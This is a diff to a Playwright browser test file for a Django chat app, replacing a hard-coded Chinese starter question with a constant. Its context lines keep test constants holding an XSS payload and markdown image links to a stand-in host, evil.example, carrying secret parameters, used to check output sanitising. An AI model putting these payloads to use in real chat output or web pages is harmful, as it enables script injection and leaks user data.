@@ -6,12 +6,15 @@ import pytest
 from django.contrib.auth.models import User
 from playwright.sync_api import FloatRect, Locator, Page, expect
 
+from chat.cassettes.walkthrough import questions
 from chat.search.indexing import index_noted
 from chat.tests.builders import AConversation, a_model
 from chat.tests.page.conftest import Wire
 
 pytestmark = pytest.mark.browser
 
+# As who reads English sees 数据库有几张表.
+STARTER = questions("en")[0]
 EVIL = "<img src=x onerror=alert(1)><script>alert(1)</script>"
 EXFILTRATION = "![x](https://evil.example/?secret=1) ![y][r]\n\n[r]: https://evil.example/?secret=2"
 
@@ -291,13 +294,13 @@ def test_starters_are_those_of_the_chosen_model(page: Page, wire: Wire, owner: U
     page.goto("/")
     page.get_by_role("combobox", name="Model").select_option(label="Other")
     expect(page.get_by_role("button", name="Another question")).to_be_visible()
-    expect(page.get_by_role("button", name="数据库有几张表")).to_be_hidden()
+    expect(page.get_by_role("button", name=STARTER)).to_be_hidden()
 
 
 def test_a_starter_waits_for_the_script_that_hears_its_press(
     page: Page, wire: Wire, owner: User
 ) -> None:
-    starter = page.get_by_role("button", name="数据库有几张表")
+    starter = page.get_by_role("button", name=STARTER)
     page.route("**/chat/main*.js", lambda route: route.abort())
     page.goto("/")
     expect(starter).to_be_disabled()
